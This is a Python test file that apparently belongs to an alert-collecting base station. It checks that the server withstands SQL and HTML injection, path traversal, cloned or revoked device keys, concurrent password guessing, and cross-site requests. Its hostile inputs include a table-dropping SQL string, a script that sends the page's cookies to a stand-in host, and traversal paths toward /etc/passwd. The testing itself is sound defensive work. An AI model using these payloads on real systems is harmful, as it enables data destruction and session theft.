"""What docs/security.md says was tried, as far as no other test here is about it."""

import json
import sqlite3
import uuid
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace

import pytest

from agent.signing import HEADER_SIGNATURE, new_key
from base_station.accounts import ATTEMPTS_PER_NAME, OPERATOR, Accounts
from base_station.inbox import ALERTS, CHALLENGE, CLIPS, HEARTBEATS, RECEIPTS
from tests.base_station.test_accounts import cookie, log_in, quick_hashes, with_csrf  # noqa: F401  # a fixture

both = pytest.mark.parametrize("database_url", ["sqlite", "postgresql"], indirect=True)

SQL = "'; DROP TABLE alerts; --"
HTML = "<script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"
HOSTILE = (SQL, HTML, "\\'; SELECT pg_sleep(9); --", "{{7*7}}${7*7}", "\u202e\u2028", "a" * 60)


@pytest.fixture
def operator(station) -> dict[str, str]:
    token = Accounts(station.store.database).add_token("rig", OPERATOR, station.clock())
    return {"Authorization": f"Bearer {token}"}


def tables_of(tmp_path) -> dict[str, int]:
    raw = sqlite3.connect(tmp_path / "station.db")
    names = [name for (name,) in raw.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
    counts = {name: raw.execute(f"SELECT count(*) FROM {name}").fetchone()[0] for name in names}
    raw.close()
    return counts


@both
@pytest.mark.parametrize("text", HOSTILE)
def test_sql_and_html_in_every_text_field_are_refused_or_kept_as_letters(
    station, ipe, operator, alert_of, heartbeat_of, text
):
    alert = alert_of("ipe-07", log_mel=None)
    station.send(ipe, alert)
    path = f"/v1/alerts/{alert.alert_id}/verdicts"
    statuses = []
    # what devices send: every text of an alert and a heartbeat
    for message, where in ((alert_of("ipe-07", log_mel=None), ALERTS), (heartbeat_of("ipe-07"), HEARTBEATS)):
        document = json.loads(message.to_json())
        for key in [key for key, value in document.items() if isinstance(value, str)]:
            body = json.dumps(document | {key: text}).encode()
            statuses.append(station.post(ipe, where, body)[0].status_code)
        for key in document.get("clock", {}):
            body = json.dumps(document | {"clock": document["clock"] | {key: text}}).encode()
            statuses.append(station.post(ipe, where, body)[0].status_code)
    # what people and programs send
    for json_body in (
        {"verdict": "false", "judge": text, "note": text, "chosen": "random"},
        {"verdict": "false", "judge": "x", "heard": text, "chosen": "random"},
        {"verdict": text, "judge": "x", "chosen": "random"},
    ):
        answer = station.request("POST", path, json=json_body, headers=operator)
        statuses.append(answer.status_code)
    answer = station.request("PATCH", "/v1/devices/ipe-07", json={"name": text}, headers=operator)
    statuses.append(answer.status_code)
    if answer.status_code == 200:
        assert answer.json()["name"] == " ".join(text.split())
    statuses.append(station.request("POST", "/v1/session", json={"name": text, "password": text}).status_code)
    # where it would be a parameter
    for where, key in (
        ("/v1/alerts", "label"), ("/v1/alerts", "device"), ("/v1/conditions", "device"), ("/v1/audit", "device"),
        ("/v1/journals", "device"), ("/v1/journals/segments", "device"), ("/v1/export/alerts.csv", "label"),
        ("/v1/incidents", "label"), ("/v1/alerts", "before"), ("/v1/review", "order"), ("/v1/precision", "by"),
    ):  # fmt: skip
        answer = station.request("GET", where, params={key: text}, headers=operator)
        statuses.append(answer.status_code)
        if answer.status_code == 200 and answer.headers["content-type"] == "application/json":
            found = next(iter(answer.json().values()))
            assert found == [], (where, key)
    assert {status for status in statuses if status >= 500} == set()
    # nothing was dropped, and everything that was kept comes back as JSON or CSV, never as a page
    assert [event.alert_id for event in station.store.events()][-1] == alert.alert_id
    for where in ("/v1/alerts", "/v1/devices", path, "/v1/audit", "/v1/export/verdicts.csv", "/v1/export/alerts.csv"):
        answer = station.request("GET", where, headers=operator)
        assert answer.status_code == 200
        assert answer.headers["content-type"].split(";")[0] in ("application/json", "text/csv")


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/station.key",
        "....//station.db",
        "a%00.wav",
        "C:\\x",
    ],
)
def test_no_path_leads_out_of_clips_pictures_and_files(station, ipe, operator, alert_of, name):
    station.send(ipe, alert_of("ipe-07"))
    for path in (
        f"/v1/alerts/{name}/clip.wav",
        f"/v1/alerts/{name}/log-mel.png",
        f"/v1/alerts/{name}",
        f"/v1/journals/segments/{name}",
        f"/v1/export/{name}",
        f"/v1/devices/{name}",
    ):
        answer = station.request("GET", path, headers=operator)
        assert answer.status_code in (404, 405, 422), path
        assert b"root:" not in answer.content
    body = b"RIFF"
    answer = station.request("POST", CLIPS + name, content=body, headers=ipe.seal(CLIPS + name, body).headers())
    assert 400 <= answer.status_code < 500


@both
def test_a_clone_cannot_be_told_from_its_original_until_its_key_is_replaced(station, ipe, operator, heartbeat_of):
    clone = replace(ipe)
    body = heartbeat_of("ipe-07").to_json()
    for _ in range(3):
        assert station.post(ipe, HEARTBEATS, body)[0].status_code == 200
    answer, _ = station.post(clone, HEARTBEATS, body)
    assert (answer.status_code, answer.json()["kind"]) == (409, "counter")  # it is behind, and that is noticed
    clone.counter = answer.json()["highest"]
    assert station.post(clone, HEARTBEATS, body)[0].status_code == 200
    fresh = station.request("POST", "/v1/devices/ipe-07/key", headers=operator).json()["key"]
    assert station.post(clone, HEARTBEATS, body)[0].status_code == 401
    original = replace(ipe, key=bytes.fromhex(fresh), counter=0)
    assert station.post(original, HEARTBEATS, body)[0].status_code == 200


@both
@pytest.mark.parametrize("path", [ALERTS, HEARTBEATS, CHALLENGE, RECEIPTS, CLIPS + str(uuid.UUID(int=1))])
def test_a_stolen_key_is_worth_nothing_anywhere_after_its_device_was_revoked(station, ipe, operator, path):
    assert station.request("POST", "/v1/devices/ipe-07/revoke", headers=operator).status_code == 200
    answer, _ = station.post(ipe, path, b'{"schema": 1}')
    assert answer.status_code == 403
    assert HEADER_SIGNATURE not in answer.headers
    stranger = replace(ipe, key=new_key())
    assert station.post(stranger, path, b"{}")[0].status_code == 401


def test_passwords_cannot_be_guessed_by_many_at_once(station):
    Accounts(station.store.database).set_person("Maria", OPERATOR, "a saw in the rain", station.clock())
    with ThreadPoolExecutor(8) as pool:
        answers = list(pool.map(lambda n: log_in(station, password=f"guess number {n}").status_code, range(40)))
    assert set(answers) == {401, 429}
    # those that were looked at before the first was counted are as many as come in at once, and no more
    assert answers.count(401) <= ATTEMPTS_PER_NAME + 8
    assert log_in(station).status_code == 429


def test_another_page_changes_nothing_through_an_operator_s_browser(station, ipe):
    Accounts(station.store.database).set_person("Maria", OPERATOR, "a saw in the rain", station.clock())
    inside = log_in(station)
    attempts = (
        ("POST", "/v1/devices", {"json": {"device_id": "cedro-01"}}),
        ("POST", "/v1/devices/ipe-07/revoke", {}),
        ("POST", "/v1/devices/ipe-07/key", {}),
        ("PATCH", "/v1/devices/ipe-07", {"json": {"name": "x"}}),
        ("POST", "/v1/journals", {"files": [("files", ("journal-00000000.jsonl", b"x"))]}),
        ("DELETE", "/v1/session", {}),
    )
    for method, path, more in attempts:
        headers = {**cookie(inside), "Origin": "https://evil.example"}
        assert station.request(method, path, headers=headers, **more).status_code == 403, path
    assert [device.device_id for device in station.store.devices()] == ["ipe-07"]
    assert station.store.device("ipe-07").revoked_utc is None
    assert (
        station.request("PATCH", "/v1/devices/ipe-07", headers=with_csrf(inside), json={"name": "x"}).status_code == 200
    )


def test_no_answer_says_that_another_site_may_read_it(station, ipe, operator):
    for origin in ("https://evil.example", "null"):
        headers = {**operator, "Origin": origin, "Access-Control-Request-Method": "POST"}
        for method, path in (("GET", "/v1/alerts"), ("OPTIONS", "/v1/devices"), ("GET", "/v1/audit")):
            answer = station.request(method, path, headers=headers)
            assert "access-control-allow-origin" not in answer.headers
